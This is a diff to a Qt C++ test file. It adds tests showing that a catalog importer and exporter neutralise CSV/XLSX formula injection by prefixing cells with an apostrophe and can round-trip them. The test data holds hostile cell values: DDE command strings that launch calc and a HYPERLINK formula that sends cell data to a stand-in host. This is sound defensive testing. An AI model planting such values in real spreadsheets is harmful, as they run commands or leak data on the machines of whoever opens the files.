@@ -6,6 +6,7 @@
 #include "models/catalog/io/CatalogExporter.h"
 #include "models/catalog/io/CatalogImporter.h"
 #include "models/catalog/io/CsvCodec.h"
+#include "models/catalog/io/FormulaGuard.h"
 #include "models/catalog/io/XlsxCodec.h"
 #include "models/common/Clock.h"
 #include "models/demo/DemoDataGenerator.h"
@@ -17,6 +18,8 @@
 #include <QStringEncoder>
 #include <QTemporaryDir>
 #include <QTest>
+
+#include <zip.h>
 
 namespace {
 // What every change here is stamped with: these tests hold on any date.
@@ -55,6 +58,25 @@ QByteArray catalogDigest(QSqlDatabase database)
     return hash.result();
 }
 
+/// One part of a zip file as stored, read with libzip: what a spreadsheet program opens.
+QByteArray zipPart(const QString& path, const char* name)
+{
+    int failure = 0;
+    zip_t* archive = zip_open(QFile::encodeName(path).constData(), ZIP_RDONLY, &failure);
+    if (!archive)
+        return {};
+    QByteArray bytes;
+    if (zip_file_t* file = zip_fopen(archive, name, 0)) {
+        char buffer[65536];
+        zip_int64_t read = 0;
+        while ((read = zip_fread(file, buffer, sizeof buffer)) > 0)
+            bytes.append(buffer, qsizetype(read));
+        zip_fclose(file);
+    }
+    zip_close(archive);
+    return bytes;
+}
+
 const QByteArray Header = "目录名称,信息资源代码,提供单位代码,共享属性,共享方式,数据分级,更新频率\r\n";
 
 } // namespace
@@ -70,6 +92,9 @@ private slots:
     void csvDetectsItsEncoding();
     void malformedCsvIsRefusedWhole();
     void xlsxRoundTripsAndRejectsDamage();
+    void formulaGuardIsReversible_data();
+    void formulaGuardIsReversible();
+    void hostileCellsAreExportedAsTextAndImportedBack();
     void dryRunReportsEveryRowAndWritesNothing();
     void applyIsAllOrNothing();
     void cancelledImportLeavesNothing();
@@ -200,6 +225,121 @@ void TestCatalogIo::xlsxRoundTripsAndRejectsDamage()
     const ImportPlan plan = CatalogImporter(m_database->connection(), {}, TestClock)
                                 .plan(bytes.left(bytes.size() - 100), CatalogFileFormat::Xlsx);
     QVERIFY(plan.fileError.isError());
+}
+
+void TestCatalogIo::formulaGuardIsReversible_data()
+{
+    QTest::addColumn<QString>("text");
+    QTest::addColumn<QString>("cell");
+    const auto row = [](const char* name, const QString& text, const QString& cell) {
+        QTest::newRow(name) << text << cell;
+    };
+    row("formula", QStringLiteral("=1+1"), QStringLiteral("'=1+1"));
+    row("hyperlink", QStringLiteral("=HYPERLINK(\"http://x\",\"点击\")"),
+        QStringLiteral("'=HYPERLINK(\"http://x\",\"点击\")"));
+    row("plus", QStringLiteral("+cmd|' /C calc'!A0"), QStringLiteral("'+cmd|' /C calc'!A0"));
+    row("minus DDE", QStringLiteral("-2+3+cmd|' /C calc'!A0"), QStringLiteral("'-2+3+cmd|' /C calc'!A0"));
+    row("at", QStringLiteral("@SUM(A1:A9)"), QStringLiteral("'@SUM(A1:A9)"));
+    row("tab", QStringLiteral("\t=1+1"), QStringLiteral("'\t=1+1"));
+    row("carriage return", QStringLiteral("\r=1+1"), QStringLiteral("'\r=1+1"));
+    row("a lone minus", QStringLiteral("-"), QStringLiteral("'-"));
+    row("negative number", QStringLiteral("-5"), QStringLiteral("-5"));
+    row("signed decimal", QStringLiteral("+3.25"), QStringLiteral("+3.25"));
+    row("two points", QStringLiteral("-1.5.2"), QStringLiteral("'-1.5.2"));
+    row("already guarded", QStringLiteral("'=1+1"), QStringLiteral("''=1+1"));
+    row("guarded twice", QStringLiteral("''-5"), QStringLiteral("'''-5"));
+    row("quoted number", QStringLiteral("'-5"), QStringLiteral("''-5"));
+    row("apostrophe text", QStringLiteral("'abc"), QStringLiteral("'abc"));
+    row("lone apostrophe", QStringLiteral("'"), QStringLiteral("'"));
+    row("equals inside", QStringLiteral("a=b"), QStringLiteral("a=b"));
+    row("chinese", QStringLiteral("湖南省"), QStringLiteral("湖南省"));
+    row("empty", QString(), QString());
+}
+
+void TestCatalogIo::formulaGuardIsReversible()
+{
+    QFETCH(QString, text);
+    QFETCH(QString, cell);
+    QCOMPARE(FormulaGuard::toCell(text), cell);
+    QCOMPARE(FormulaGuard::fromCell(cell), text);
+}
+
+// A file an attacker prepared: names that would run as formulas in Excel. Imported, they are kept
+// as the text they are; exported, no cell starts a formula; imported again, the catalog is the same.
+void TestCatalogIo::hostileCellsAreExportedAsTextAndImportedBack()
+{
+    const QStringList hostile{QStringLiteral("=HYPERLINK(\"http://203.0.113.9/?\"&A1,\"点击查看\")"),
+                              QStringLiteral("+cmd|' /C calc'!A0"),
+                              QStringLiteral("-2+3+cmd|' /C calc'!A0"),
+                              QStringLiteral("@SUM(1+1)*cmd|' /C calc'!A0"),
+                              QStringLiteral("\t=1+1"),
+                              QStringLiteral("'=already quoted")};
+    QByteArray body;
+    for (qsizetype n = 0; n < hostile.size(); ++n) {
+        QString name = hostile.at(n);
+        name.replace(QLatin1Char('"'), QLatin1String("\"\""));
+        body += QStringLiteral("\"%1\",101001001/00000%2,430100001,无条件共享,服务接口,一般数据,每日\r\n")
+                    .arg(name)
+                    .arg(n + 1)
+                    .toUtf8();
+    }
+    CatalogImporter importer(m_database->connection(), QStringLiteral("wang"), TestClock);
+    const ImportPlan plan = planCsv(body);
+    QVERIFY2(plan.canApply(), qPrintable(plan.fileError.message));
+    QVERIFY(!importer.apply(plan, QStringLiteral("导入")).isError());
+    QSqlQuery names(m_database->connection());
+    QVERIFY(names.exec(QStringLiteral("SELECT name FROM catalog_entry ORDER BY code")));
+    QStringList stored;
+    while (names.next())
+        stored.append(names.value(0).toString());
+    // A hostile file's text is data, kept as the file says; a leading apostrophe before a formula
+    // character is the file's own guard (FormulaGuard), taken off like any spreadsheet would.
+    QStringList kept;
+    for (const QString& text : hostile)
+        kept.append(FormulaGuard::fromCell(text));
+    QCOMPARE(stored, kept);
+    QCOMPARE(stored.constLast(), QStringLiteral("=already quoted"));
+
+    for (const CatalogFileFormat format : {CatalogFileFormat::Csv, CatalogFileFormat::Xlsx}) {
+        const bool csv = format == CatalogFileFormat::Csv;
+        const QString file = m_dir->filePath(csv ? QStringLiteral("out.csv") : QStringLiteral("out.xlsx"));
+        QVERIFY(!CatalogExporter(m_database->connection(), TestClock)
+                     .exportTo(file, format, std::nullopt, {})
+                     .isError());
+        // What a spreadsheet program reads: every hostile text behind an apostrophe, none bare.
+        const QString seen = csv ? QString::fromUtf8(test::readFile(file))
+                                 : QString::fromUtf8(zipPart(file, "xl/worksheets/sheet1.xml"));
+        QVERIFY(!seen.isEmpty());
+        const auto xmlText = [](QString text) { // as libxlsxwriter escapes element text
+            return text.replace(QLatin1Char('&'), QLatin1String("&amp;"))
+                .replace(QLatin1Char('<'), QLatin1String("&lt;"))
+                .replace(QLatin1Char('>'), QLatin1String("&gt;"));
+        };
+        for (const QString& text : kept) {
+            const QString guarded = FormulaGuard::toCell(text);
+            const QString written =
+                csv ? QString(guarded).replace(QLatin1Char('"'), QLatin1String("\"\"")) : xmlText(guarded);
+            QVERIFY2(guarded.startsWith(QLatin1Char('\'')), qPrintable(text));
+            QVERIFY2(seen.contains(written), qPrintable(text));
+            // A cell starts after a quote or a separator (CSV), or after its tag (XLSX).
+            const QString start = csv ? QString(text).replace(QLatin1Char('"'), QLatin1String("\"\"")).left(6)
+                                      : xmlText(text).left(6);
+            for (const QChar before :
+                 {QLatin1Char('"'), QLatin1Char(','), QLatin1Char('\n'), QLatin1Char('>')})
+                QVERIFY2(!seen.contains(before + start), qPrintable(text));
+        }
+
+        QTemporaryDir otherDir;
+        const std::unique_ptr<Database> other =
+            test::createDatabase(otherDir.filePath(QStringLiteral("o.db")), DatabaseKey::generate());
+        QVERIFY(
+            !DepartmentRepository(other->connection()).insert(DemoDataGenerator::departments()).isError());
+        CatalogImporter again(other->connection(), QStringLiteral("wang"), TestClock);
+        const ImportPlan back = again.plan(test::readFile(file), format);
+        QVERIFY2(back.canApply(), qPrintable(back.fileError.message));
+        QVERIFY(!again.apply(back, QStringLiteral("导入")).isError());
+        QCOMPARE(catalogDigest(other->connection()), catalogDigest(m_database->connection()));
+    }
 }
 
 void TestCatalogIo::dryRunReportsEveryRowAndWritesNothing()
